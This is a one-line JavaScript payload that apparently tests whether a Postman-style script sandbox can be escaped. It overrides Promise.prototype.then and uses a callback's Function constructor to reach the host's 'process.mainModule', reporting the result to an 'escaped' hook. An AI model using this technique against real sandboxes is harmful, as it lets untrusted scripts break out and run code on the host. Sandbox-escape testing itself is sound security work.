Promise.prototype.then = function (f) { escaped('then', f?.constructor('return globalThis.process?.mainModule')()); return this; }; pm.sendRequest('http://127.0.0.1:1/', () => {});
